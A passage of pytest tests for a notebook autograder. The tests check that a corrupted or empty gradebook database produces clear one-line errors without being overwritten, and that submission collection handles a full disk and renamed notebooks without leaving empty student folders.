    put(course.root / "submitted/alice/intro/arrays.ipynb", nb_bytes("alice"))
    good = course.gradebook_file.read_bytes()
    bad = {"truncated": good[: len(good) // 3],  # a copy taken while it was being written
           "not-a-database": b"SQLite format 2\0" + bytes(range(256)) * 64,
           "empty": b""}[damage]
    course.gradebook_file.write_bytes(bad)
    with pytest.raises(GradebookUnavailable, match="gradebook.db"):
        read_gradebook(course)
    expected = "is an empty file (0 bytes)" if damage == "empty" else "is damaged or not a SQLite database"
    for args in (("export",), ("export", "--format", "json"), ("report",), ("feedback",), ("late",),
                 ("roster", "list"), ("extension", "intro", "alice", "--days", "1"), ("autograde",),
                 ("release", "intro")):
        result = cli(course.root, *args)
        assert result.exit_code == 2, (args, result.output, result.exception)
        line = result.output.strip()
        assert "\n" not in line and expected in line and str(course.gradebook_file) in line, (args, line)
        assert "restore it from a backup" in line
    assert course.gradebook_file.read_bytes() == bad  # nothing was changed: not even made an empty gradebook
    assert not (course.root / "autograded").exists() and not (course.root / "exports").exists()


def test_collect_leaves_no_folder_without_a_notebook_for_autograde_to_score_0(tmp_path, monkeypatch):
    import errno

    from autograder.collect import collect_submission_folders

    course = tiny_course(tmp_path / "course")
    submitted = course.root / "submitted"
    src = tmp_path / "incoming"
    for student in ("ada", "bob", "carol"):
        put(src / student / "intro/timestamp.txt", "2026-03-06 10:00:00.000000 UTC\n")
    put(src / "ada/intro/arrays.ipynb", nb_bytes("ada"))
    put(src / "bob/intro/arrays.ipynb", nb_bytes("bob"))  # the disk is full when it is written
    put(src / "carol/intro/arrays-Copy1.ipynb", nb_bytes("carol"))  # renamed: refused
    real_write = collect_mod.atomic_write_bytes

    def disk_full_for_bob(path, data, **kwargs):
        if Path(path).parts[-3] == "bob":
            Path(path).parent.mkdir(parents=True, exist_ok=True)  # as the real one does before writing
            raise OSError(errno.ENOSPC, "No space left on device", str(path))
        return real_write(path, data, **kwargs)

    monkeypatch.setattr(collect_mod, "atomic_write_bytes", disk_full_for_bob)
    report = collect(course, src)
    assert files_under(submitted) == {"ada/intro/arrays.ipynb", "ada/intro/timestamp.txt"}
    assert sorted(p.name for p in submitted.iterdir()) == ["ada"]  # no empty folder for bob or carol
    why = {str(Path(r.source).relative_to(src)): r.reason for r in report.refused}
    assert "No space left on device" in why["bob/intro/arrays.ipynb"]
    assert "unknown notebook 'arrays-Copy1.ipynb'" in why["carol/intro/arrays-Copy1.ipynb"]
    for student in ("bob", "carol"):
        assert "no notebook of assignment 'intro' was taken" in why[f"{student}/intro/timestamp.txt"]
    assert [(s.student, s.assignment) for s in batch.find_submissions(course)] == [("ada", "intro")]

    # space freed: bob's notebook and time come; a time alone joins a notebook collected before
    monkeypatch.setattr(collect_mod, "atomic_write_bytes", real_write)
    (src / "bob/intro/arrays.ipynb").unlink()
    collect(course, src)
    assert "bob/intro/timestamp.txt" not in files_under(submitted)
    put(src / "bob/intro/arrays.ipynb", nb_bytes("bob"))
    collect(course, src)
    (src / "bob/intro/arrays.ipynb").unlink()
    put(src / "bob/intro/timestamp.txt", "2026-03-06 11:00:00.000000 UTC\n")
    report = collect(course, src)
    assert (submitted / "bob/intro/timestamp.txt").read_text().startswith("2026-03-06 11:00")
    assert (submitted / "bob/intro/arrays.ipynb").read_bytes() == nb_bytes("bob")

    # nbgrader's exchange: a submission holding only a renamed notebook leaves nothing behind
    # either, and is reported as a failure (its notebook is only "left in the exchange")
    inbound = tmp_path / "inbound"
    folder = "dave+intro+2026-03-06 10:00:00.000000 UTC"
    put(inbound / folder / "arrays-Copy1.ipynb", nb_bytes("dave"))
    put(inbound / folder / "timestamp.txt", "2026-03-06 10:00:00.000000 UTC\n")
    report = collect_submission_folders(course, inbound, [("dave", "intro", folder)])
    assert not (submitted / "dave").exists() and report.failed
    assert "no notebook of assignment 'intro'" in report.summary()
